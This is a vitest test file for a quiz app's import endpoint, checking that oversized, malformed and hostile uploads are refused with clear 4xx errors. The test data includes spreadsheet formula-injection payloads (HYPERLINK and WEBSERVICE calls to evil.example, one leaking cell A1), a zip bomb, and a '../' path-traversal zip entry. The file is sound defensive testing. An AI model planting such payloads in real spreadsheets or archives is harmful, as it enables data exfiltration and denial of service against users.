// Hostile and broken files for the quiz import (issue 21): each gets a clear 4xx `{ error }`, never
// a 5xx, and nothing is evaluated, followed or unpacked past its caps.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signUpAndIn } from './api-helpers.js';
import { createActivity, expectOk } from './fixtures.js';
import { csv, importFile, TEMPLATE_HEADER, templateRow, xlsx, zip } from './quiz-import-files.js';
import { buildTestApp, type TestApp } from './test-app.js';
import { IMPORTS_AT_ONCE, IMPORTS_BUSY } from '../src/activities/import/import-limits.js';
import { png } from './test-images.js';

let t: TestApp;
let token: string;
let quizId: string;

beforeAll(async () => {
  t = await buildTestApp();
  token = (await signUpAndIn(t.app)).token;
  quizId = await createActivity(t.app, token, 'quiz', 'Hostile');
});
afterAll(() => t.close());

const send = (bytes: Buffer, name = 'quiz.csv') => importFile(t.app, token, quizId, bytes, name);
const freeText = (n: number) => templateRow({ type: 'free text', question_en: `Question ${n}`, text_answer_en: 'yes' });

async function refused(bytes: Buffer | Promise<Buffer>, name: string, status: number, error: RegExp) {
  const res = await send(await bytes, name);
  expect(res.status).toBe(status);
  expect(res.body.error).toMatch(error);
}

describe('caps', () => {
  it('refuses a spreadsheet over 5 MiB and any file over 50 MiB', async () => {
    await refused(Buffer.alloc(5 * 1024 * 1024 + 1, 'a'), 'big.csv', 400, /too large for a spreadsheet/);
    await refused(Buffer.alloc(50 * 1024 * 1024 + 1, 'a'), 'huge.csv', 413, /at most 5 MiB \(a zip with images 50 MiB\)/);
  });

  it('refuses more than 2,000 questions, in csv, xlsx and Open Trivia DB', async () => {
    const rows = Array.from({ length: 2001 }, (_, i) => freeText(i));
    await refused(csv([TEMPLATE_HEADER, ...rows]), 'many.csv', 400, /has 2001 questions; an import takes at most 2,000/);
    await refused(xlsx([TEMPLATE_HEADER, ...rows]), 'many.xlsx', 400, /has 2001 questions/);
    const results = Array.from({ length: 2001 }, () => ({
      type: 'boolean',
      question: 'q',
      correct_answer: 'True',
      incorrect_answers: ['False'],
    }));
    await refused(Buffer.from(JSON.stringify({ response_code: 0, results })), 'many.json', 400, /has 2001 questions/);
  });

  it('takes 2,000 questions', async () => {
    const rows = Array.from({ length: 2000 }, (_, i) => freeText(i));
    const preview = expectOk(await send(csv([TEMPLATE_HEADER, ...rows])));
    expect(preview.rows).toHaveLength(2000);
  });
});

describe('formulas are text, never evaluated', () => {
  it('a csv cell starting with = stays the characters written', async () => {
    const cell = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const preview = expectOk(
      await send(csv([TEMPLATE_HEADER, templateRow({ type: 'free text', question_en: cell, text_answer_en: '=1+1' })])),
    );
    expect(preview.rows[0].question.texts.en_US).toEqual({ question: cell, answer: '=1+1' });
  });

  it('an xlsx formula is not computed: the cell reads as the value the spreadsheet saved (here none)', async () => {
    const row = templateRow({ type: 'free text', text_answer_en: 'x' }) as (string | { type: 'Formula'; value: string })[];
    row[1] = { type: 'Formula', value: 'WEBSERVICE("http://evil.example/")' };
    const preview = expectOk(await send(await xlsx([TEMPLATE_HEADER, row]), 'formula.xlsx'));
    expect(preview.rows[0].problems).toEqual(['row 2: question_en is empty']);
  });
});

describe('zips', () => {
  it('refuses a zip bomb: an entry compressed more than 200:1', async () => {
    const bomb = await zip({ 'q.csv': csv([TEMPLATE_HEADER, freeText(1)]), 'bomb.png': Buffer.alloc(20 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(100_000);
    await refused(bomb, 'bomb.zip', 400, /bomb.png is compressed \d+:1, more than 200:1 is refused/);
  });

  it('refuses an xlsx whose own parts are a zip bomb', async () => {
    const sheet = await xlsx([TEMPLATE_HEADER, freeText(1)]);
    // A real workbook's parts plus one of 20 MiB of zeros: the xlsx is refused before it is parsed.
    const { default: yauzl } = await import('yauzl');
    const zipFile = await yauzl.fromBufferPromise(sheet, { lazyEntries: true });
    const parts: Record<string, Buffer> = {};
    for await (const entry of zipFile.eachEntry()) {
      const stream = await zipFile.openReadStreamPromise(entry);
      const chunks: Buffer[] = [];
      for await (const c of stream) chunks.push(c as Buffer);
      parts[entry.fileName] = Buffer.concat(chunks);
    }
    parts['xl/media/zeros.bin'] = Buffer.alloc(20 * 1024 * 1024);
    await refused(zip(parts), 'bomb.xlsx', 400, /zeros.bin is compressed/);
  });

  it('refuses path traversal in entry names', async () => {
    const archive = await zip({ 'q.csv': csv([TEMPLATE_HEADER, freeText(1)]), 'xx/evil.png': png() });
    const bytes = Buffer.from(archive.toString('latin1').replaceAll('xx/evil.png', '../evil.png'), 'latin1');
    await refused(bytes, 'evil.zip', 400, /Invalid zip archive: .*\.\.\/evil\.png/);
  });

  it('refuses a zip with no spreadsheet, or two', async () => {
    await refused(zip({ 'a.png': png() }), 'x.zip', 400, /exactly one spreadsheet .* it holds 0/);
    await refused(zip({ 'a.csv': Buffer.from('x'), 'b.csv': Buffer.from('y') }), 'x.zip', 400, /it holds 2/);
  });

  it('refuses a zip cut short', async () => {
    const whole = await zip({ 'q.csv': csv([TEMPLATE_HEADER, freeText(1)]) });
    await refused(whole.subarray(0, whole.length - 30), 'cut.zip', 400, /not a readable zip archive/);
  });
});

describe('garbage', () => {
  it.each([
    ['random bytes', Buffer.from([0, 1, 2, 255, 254, 10, 13, 0, 7]), /neither QuizFest's headings/],
    ['an empty file', Buffer.alloc(0), /The file is empty/],
    ['a csv with other headings', Buffer.from('name,age\nann,3'), /neither QuizFest's headings/],
    ['broken JSON', Buffer.from('{"response_code": 0, "results": ['), /not valid JSON/],
    ['JSON of another shape', Buffer.from('{"questions": []}'), /not an Open Trivia DB response/],
    ['a csv with an unclosed quote', Buffer.from('type,question_en\n"free text,oops'), /csv file cannot be read/],
  ])('answers 400 to %s', async (_label, bytes, error) => {
    await refused(bytes, 'file', 400, error);
  });

  it('names the bad rows of Open Trivia DB results and keeps the good ones', async () => {
    const body = {
      response_code: 0,
      results: [
        { type: 'multiple', question: 'q', correct_answer: 'a', incorrect_answers: ['b'] },
        42,
        { type: 'boolean', question: 'q', correct_answer: 'True', incorrect_answers: [] },
      ],
    };
    const preview = expectOk(await send(Buffer.from(JSON.stringify(body)), 'x.json'));
    expect(preview.rows.map((r: { problems: string[] }) => r.problems)).toEqual([
      ['row 1: 1 incorrect answers; a multiple question has 3'],
      ['row 2: not an Open Trivia DB question (type, question, correct_answer and incorrect_answers)'],
      [],
    ]);
  });

  it('answers 400 when the body is not multipart', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/activities/quiz/${quizId}/import`,
      payload: { a: 1 },
      headers: { authorization: `Bearer ${token}` },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatch(/multipart/);
  });
});

describe('many imports at once', () => {
  it('runs a few at a time, lets a few wait, and refuses the rest with 503 instead of holding every file and reader at once', async () => {
    const rows = Array.from({ length: 1000 }, (_, i) => freeText(i));
    const file = await xlsx([TEMPLATE_HEADER, ...rows]);
    const n = IMPORTS_AT_ONCE.running + IMPORTS_AT_ONCE.waiting + 4;
    const answers = await Promise.all(Array.from({ length: n }, () => send(file, 'quiz.xlsx')));
    const served = answers.filter((a) => a.status === 200);
    const busy = answers.filter((a) => a.status === 503);
    expect(served.length + busy.length).toBe(n);
    expect(served.length).toBeGreaterThanOrEqual(IMPORTS_AT_ONCE.running + IMPORTS_AT_ONCE.waiting);
    expect(busy.length).toBeGreaterThan(0);
    expect(busy[0]!.body).toEqual({ error: IMPORTS_BUSY });
    for (const a of served) expect(a.body.rows).toHaveLength(1000);
    // Once they are done, the next import is served.
    expect((await send(file, 'quiz.xlsx')).status).toBe(200);
  });
});
